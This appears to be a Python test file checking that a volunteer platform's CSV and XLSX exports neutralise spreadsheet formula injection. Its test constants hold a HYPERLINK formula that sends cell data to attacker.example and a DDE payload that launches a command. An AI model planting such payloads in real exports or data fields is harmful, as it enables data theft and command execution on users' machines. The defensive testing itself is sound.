"""Every spreadsheet the product hands out neutralises cells that a spreadsheet program would run as a
formula: an organisation named ``=HYPERLINK(...)`` or hours described as ``=cmd|' /C calc'!A0`` arrive
as plain text in the hours CSV, the report CSV and XLSX (API and pilot pages)."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from brokerage.models import Placement, User
from brokerage.spreadsheets import csv_writer, neutralise, neutralise_workbook
from tests.factories import ASHFORD
from tests.reports import dataset

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
FORMULA_ACTIVITY = "=cmd|' /C calc'!A0"
Q = "period=2025&as_of=2026-06-30"


def _formula_cells(values) -> list[str]:
    return [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "|calc", "%0A"])
def test_the_rule_neutralises_every_formula_lead(text):
    assert neutralise(text) == "'" + text
    out = io.StringIO()
    csv_writer(out).writerow([text, -2.5, "-2.5", 3, None, "plain"])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + text, "-2.5", "-2.5", "3", "", "plain"]


def test_a_workbook_keeps_no_formula_from_data():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append([FORMULA_NAME, "@x", 5, "ok"])
    neutralise_workbook(wb)
    buf = io.BytesIO()
    wb.save(buf)
    cells = [c for row in load_workbook(buf).active.iter_rows() for c in row]
    assert [c.value for c in cells] == ["'" + FORMULA_NAME, "'@x", 5, "ok"]
    assert all(c.data_type != "f" for c in cells)


def test_hours_csv_neutralises_activity_text(client, as_user, db, factory):
    centre = factory.centre(districts=(ASHFORD,))
    org = factory.organisation(ASHFORD, name=FORMULA_NAME)
    role = factory.role(org)
    vol = factory.volunteer(ASHFORD)
    placement = Placement(volunteer_id=vol.id, role_id=role.id, organisation_id=org.id, started_on=date.today() - timedelta(30))
    db.add(placement)
    db.flush()
    day = (date.today() - timedelta(days=2)).isoformat()
    r = client.post(
        f"/placements/{placement.id}/hours",
        json={"worked_on": day, "hours": 2, "activity": FORMULA_ACTIVITY},
        headers=as_user(db.get(User, vol.user_id)),
    )
    assert r.status_code == 201, r.text
    r = client.get("/hours/export.csv", headers=as_user(factory.user("centre_staff", centre=centre)))
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    assert any(cell == "'" + FORMULA_ACTIVITY for cell in rows[1])
    assert not _formula_cells(cell for row in rows for cell in row)


@pytest.fixture
def formula_county(db, factory):
    county = dataset.build(db, factory)
    county.o1.name = FORMULA_NAME
    db.flush()
    return county


def _report_cells(fmt: str, body: bytes) -> list:
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8"))) for cell in row]
    wb = load_workbook(io.BytesIO(body))
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reports_neutralise_an_organisation_named_as_a_formula(client, as_user, factory, formula_county, fmt):
    lead = as_user(factory.user("pilot_lead"))
    for url in (
        f"/reports?{Q}&dimension=organisation&format={fmt}",
        f"/pilot/reports/export?period_kind=custom&start=2025-01&end=2025-12&dimensions=organisation&format={fmt}",
    ):
        r = client.get(url, headers=lead)
        assert r.status_code == 200, (url, r.text[:300])
        cells = _report_cells(fmt, r.content)
        assert "'" + FORMULA_NAME in cells, url
        assert not _formula_cells(cells), url


def test_staff_exports_carry_no_equality_data(client, as_user, db, factory):
    centre = factory.centre(districts=(ASHFORD,))
    v = factory.volunteer(ASHFORD, gender="woman", ethnicity="asian")
    me = as_user(db.get(User, v.user_id))
    assert client.patch(f"/volunteers/{v.id}", json={"demographics": {"disability": "yes"}}, headers=me).status_code == 200
    own = client.get(f"/volunteers/{v.id}/export", headers=me).json()
    assert own["volunteer"]["demographics"]["ethnicity"] == "asian"
    staff = client.get(f"/volunteers/{v.id}/export", headers=as_user(factory.user("centre_staff", centre=centre)))
    assert staff.status_code == 200
    assert staff.json()["volunteer"]["demographics"] is None
    for word in ("asian", "woman", "ethnicity", "disability"):
        assert word not in staff.text


def test_the_rejected_rows_csv_neutralises_the_cells_it_copies():
    from brokerage.interop.imports.reader import read_table
    from brokerage.interop.imports.service import _rejected_csv
    from brokerage.interop.imports.values import Report

    table = read_table(f'first_name,email\n"{FORMULA_ACTIVITY}",bad\n"\t=1+1",x@example.org\n'.encode(), "people.csv")
    report = Report()
    report.error(2, "email", "not an email address")
    report.error(3, "first_name", "starts with a tab")
    body, written = _rejected_csv(table, report)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert written == 2
    assert rows[1][2] == "'" + FORMULA_ACTIVITY and rows[2][2].startswith("'")
    assert not _formula_cells(cell for row in rows for cell in row)


def test_the_centres_volunteer_exports_neutralise_formula_names(client, factory, db):
    from brokerage import deps
    from brokerage.auth.service import issue_session_cookie

    staff = factory.user("centre_staff", centre=factory.centre(districts=(ASHFORD,)))
    v = factory.volunteer(ASHFORD)
    v.first_name, v.last_name = FORMULA_NAME, "@SUM(1+1)"
    db.commit()
    client.cookies.set(deps.SESSION_COOKIE, issue_session_cookie(staff))
    r = client.get("/centre/exports/volunteers.csv", headers={"Accept": "text/html"})
    assert r.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
    assert "'" + FORMULA_NAME in cells and "'@SUM(1+1)" in cells and not _formula_cells(cells)
    r = client.get("/centre/exports/volunteers.xlsx", headers={"Accept": "text/html"})
    cells = _report_cells("xlsx", r.content)
    assert "'" + FORMULA_NAME in cells and not _formula_cells(cells)
